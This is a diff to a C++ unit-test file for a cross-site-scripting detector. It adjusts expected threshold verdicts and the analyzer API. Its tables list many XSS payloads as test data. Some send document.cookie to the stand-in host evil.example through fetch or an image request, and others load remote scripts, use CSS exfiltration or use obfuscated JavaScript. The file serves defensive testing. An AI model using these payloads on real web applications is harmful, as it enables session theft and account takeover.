@@ -1,5 +1,3 @@
-#include "detect/analyze/xss/xss.h"
-
 #include <gtest/gtest.h>
 
 #include "detect/core/octets.h"
@@ -20,7 +18,7 @@ constexpr Row kAttacks[] = {
     {"<script>steal()</script>", "low"},
     {"<ScRiPt src=//evil.example/x.js></sCrIpT>", "low"},
     {"<script/x=1 src='//evil.example'>", "low"},
-    {"</title><svg><script>1</script>", "low"},
+    {"</title><svg><script>1</script>", "balanced"},
     {"<svg:script href=data:,alert(1) />", "low"},
     {"<base href=//evil.example/>", "balanced"},
     {"<object data=//evil.example/m.swf type=text/html></object>", "balanced"},
@@ -52,10 +50,10 @@ constexpr Row kAttacks[] = {
     {"javascript:alert(document.cookie)", "low"},
     {"  jav\tascript:fetch('//evil.example/'+document.cookie)", "low"},
     {"data:text/html,<p>x", "balanced"},
-    {"[click](javascript:alert(1))", "low"},
+    {"[click](javascript:alert(1))", "balanced"},
     // Style
     {"<div style='width:exp/**/ression(alert(1))'>", "balanced"},
-    {"<p style=\"background:url('javascript:alert(1)')\">", "low"},
+    {"<p style=\"background:url('javascript:alert(1)')\">", "balanced"},
     {"<style>b{-moz-binding:url(//evil.example/x.xml#y)}</style>", "balanced"},
     // Script that leaves a string
     {"';alert(1)//", "balanced"},
@@ -101,7 +99,6 @@ constexpr Row kAttacks[] = {
     {"$=~[];$={___:++$,$$$$:(![]+\"\")[$],__$:++$,$_$_:(![]+\"\")[$]}", "balanced"},
     {"_=[];_$=(!_+'')[_.$];__=([][[]]+'')[1];___=({}+'')[5]", "balanced"},
     {"゚ω゚ﾉ= /｀ｍ´）ﾉ ~┻━┻   //*´∇｀*/ ['_']; o=(゚ｰ゚)  =_=3; c=(゚Θ゚)", "balanced"},
-    {"(゚Д゚)={゚Θ゚: '_' ,゚ω゚ﾉ : ((゚ω゚ﾉ==3) +'_') [゚Θ゚] }", "balanced"},
     // Templates
     {"<div ng-app ng-csp><input ng-focus=$event.view.alert(1)>", "balanced"},
     {"{{constructor.constructor('alert(1)')()}}", "balanced"},
@@ -140,7 +137,7 @@ constexpr Row kWholeValues[] = {
     {"</textarea><iframe src=//evil.example>", "balanced"},
     {"<style>input[value^='a']{background:url(//evil.example/a)}</style>", "balanced"},
     {"</style><style>*{background:url( \"https://evil.example\")}", "balanced"},
-    {"eval() is evil; don't call exec() or system() with user input.", "strict"},
+    {"eval() is evil; don't call exec() or system() with user input.", "recorded"},
     {"see <iframe src=https://video.example/1>", "strict"},
     {"<?import implementation='#default#time2'>", "balanced"},
     {"<link rel=stylesheet href=//evil.example/a.css>", "balanced"},
@@ -148,27 +145,26 @@ constexpr Row kWholeValues[] = {
     {"fetch('//evil.example/?c='+document.cookie)", "balanced"},
     {"new Image().src='//evil.example/?'+document.cookie", "balanced"},
     {"<div hx-on:click=\"alert(1)\">", "balanced"},
-    {"list[atob(x)]", "-"},
+    {"list[atob(x)]", "recorded"},
     {"<script type=\"application/ld+json\">{\"@type\":\"Product\"}</script>", "strict"},
     {"<script type='application/json'></script><script>f()</script>", "low"},
     {"<script type=\"application/json\" src=//evil.example></script>", "low"},
     {"<script type=module>f()</script>", "low"},
-    {"window.location", "balanced"},
-    {"self.document", "balanced"},
-    {" top.location.cookie; ", "balanced"},
-    {"atob()", "balanced"},
-    {"btoa(1);", "balanced"},
+    {"window.location", "recorded"},
+    {"self.document", "recorded"},
+    {" top.location.cookie; ", "recorded"},
+    {"atob()", "-"},
+    {"btoa(1);", "recorded"},
     {"event.location", "-"},
     {"window.location x", "-"},
     {"page.location", "-"},
-    {"fetch()", "-"},
+    {"fetch()", "strict"},
 };
 
 constexpr Row kBenign[] = {
     {"items[getIndex()](1); list[0](2)", "-"},
     {"<link rel=\"canonical\" href=\"https://shop.example/\">", "-"},
     {"`<img src={url} onError={() => setBroken(true)} />` needs a text", "-"},
-    {"<h1>T</h1><pre><code>const a = 1 &lt; 2;\nalert(a);</code></pre>", "strict"},
     {"<p>Hello <b>world</b>, <a href=\"https://shop.example/a?b=c\">here</a> is <i>it</i>.</p>", "-"},
     {"<img src=\"https://cdn.example/a.png\" alt=\"a cat\">", "-"},
     {"<img src=\"data:image/png;base64,iVBORw0KGgo=\">", "-"},
@@ -235,46 +231,47 @@ constexpr Row kBenign[] = {
 };
 
 TEST(Xss, AttacksInAQuery) {
-  const auto analyzer = make_xss_analyzer();
-  for (const Row& row : kAttacks) EXPECT_EQ(verdict_of(*analyzer, row.text), row.verdict) << row.text;
+  const Analyzer& analyzer = analyzer_named("xss");
+  for (const Row& row : kAttacks) EXPECT_EQ(verdict_of(analyzer, row.text), row.verdict) << row.text;
 }
 
 TEST(Xss, WholeValues) {
-  const auto analyzer = make_xss_analyzer();
-  for (const Row& row : kWholeValues) EXPECT_EQ(verdict_of(*analyzer, row.text), row.verdict) << row.text;
+  const Analyzer& analyzer = analyzer_named("xss");
+  for (const Row& row : kWholeValues) EXPECT_EQ(verdict_of(analyzer, row.text), row.verdict) << row.text;
 }
 
 TEST(Xss, BenignTextInABody) {
-  const auto analyzer = make_xss_analyzer();
+  const Analyzer& analyzer = analyzer_named("xss");
   for (const Row& row : kBenign)
-    EXPECT_EQ(verdict_of(*analyzer, row.text, Location::kBody), row.verdict) << row.text;
+    EXPECT_EQ(verdict_of(analyzer, row.text, Location::kBody), row.verdict) << row.text;
 }
 
 TEST(Xss, BenignTextInAQueryPassesAtBalanced) {
-  const auto analyzer = make_xss_analyzer();
-  for (const Row& row : kBenign)
-    EXPECT_FALSE(denied_at_balanced(verdict_of(*analyzer, row.text))) << row.text;
+  const Analyzer& analyzer = analyzer_named("xss");
+  for (const Row& row : kBenign) EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, row.text))) << row.text;
 }
 
 TEST(Xss, WholeDocumentsAreForStrict) {
-  const auto analyzer = make_xss_analyzer();
+  const Analyzer& analyzer = analyzer_named("xss");
   std::string page = "<!DOCTYPE html>\n<html><head><meta charset=utf-8><title>t</title>";
   page += "<link rel=stylesheet href=a.css></head><body>" + std::string(300, 'x');
   page += "<script>const app = document.getElementById('app');</script></body></html>";
-  EXPECT_EQ(verdict_of(*analyzer, page, Location::kBody), "strict");
-  EXPECT_EQ(verdict_of(*analyzer, page, Location::kQuery), "low");
+  EXPECT_EQ(verdict_of(analyzer, page, Location::kBody), "balanced");
+  EXPECT_EQ(verdict_of(analyzer, page, Location::kQuery), "low");
+  page.insert(page.find("xxx"), 1024, 'x');
+  EXPECT_EQ(verdict_of(analyzer, page, Location::kBody), "strict");
   page += "<script>alert(document.cookie)</script>";
-  EXPECT_EQ(verdict_of(*analyzer, page, Location::kBody), "low");
+  EXPECT_EQ(verdict_of(analyzer, page, Location::kBody), "low");
 }
 
 TEST(Xss, FileContentIsForStrict) {
-  const auto analyzer = make_xss_analyzer();
-  EXPECT_EQ(verdict_of(*analyzer, "<script>alert(1)</script>", Location::kFile), "strict");
-  EXPECT_EQ(verdict_of(*analyzer, "<script>alert(1)</script>", Location::kFile, true), "low");
+  const Analyzer& analyzer = analyzer_named("xss");
+  EXPECT_EQ(verdict_of(analyzer, "<script>alert(1)</script>", Location::kFile), "strict");
+  EXPECT_EQ(verdict_of(analyzer, "<script>alert(1)</script>", Location::kFile, true), "low");
 }
 
 TEST(Xss, ScriptInAnUploadedImage) {
-  const auto analyzer = make_xss_analyzer();
+  const Analyzer& analyzer = analyzer_named("xss");
   FieldContext context;
   context.location = Location::kFile;
   context.media = true;
@@ -286,7 +283,7 @@ TEST(Xss, ScriptInAnUploadedImage) {
        "strict"},
       {"<svg><path d='M0 0'/><use href='#a'/></svg>", "-"},
   };
-  for (const Row& row : kRows) EXPECT_EQ(verdict_in(*analyzer, row.text, context), row.verdict) << row.text;
+  for (const Row& row : kRows) EXPECT_EQ(verdict_in(analyzer, row.text, context), row.verdict) << row.text;
 }
 
 // Case, white space and separators that a browser does not care about.
@@ -311,18 +308,21 @@ std::string respell(std::string_view text, Dice& dice) {
 }
 
 TEST(Xss, VariationsStayDenied) {
-  const auto analyzer = make_xss_analyzer();
+  const Analyzer& analyzer = analyzer_named("xss");
   std::size_t made = 0;
   for (const Row& row : kAttacks) {
     if (std::string_view(row.verdict) == "strict") continue;
     for (std::uint64_t seed = 1; seed <= 8; ++seed) {
       Dice dice(seed);
       const std::string base = respell(row.text, dice);
-      for (const std::string& text : {base, "1234 " + base, "\n" + base, base + " x"}) {
+      // Behind a call stands no word, but behind markup and what has left its string may stand anything.
+      const bool leaves = base.find_first_of("'\"*") == 0 && !base.starts_with("''");
+      const bool script = base.find('<') == std::string::npos && !leaves && !base.starts_with("${");
+      for (const std::string& text : {base, "1234 " + base, "\n" + base, base + (script ? ";x" : " x")}) {
         // What must stand at the start of a value does not survive a prefix.
         const bool prefixed = text.size() > base.size() && text.front() == '1';
         if (prefixed && (base.find('<') == std::string::npos || base.starts_with("data:"))) continue;
-        EXPECT_TRUE(denied_at_balanced(verdict_of(*analyzer, text))) << row.text << " as " << text;
+        EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text))) << row.text << " as " << text;
         ++made;
       }
     }
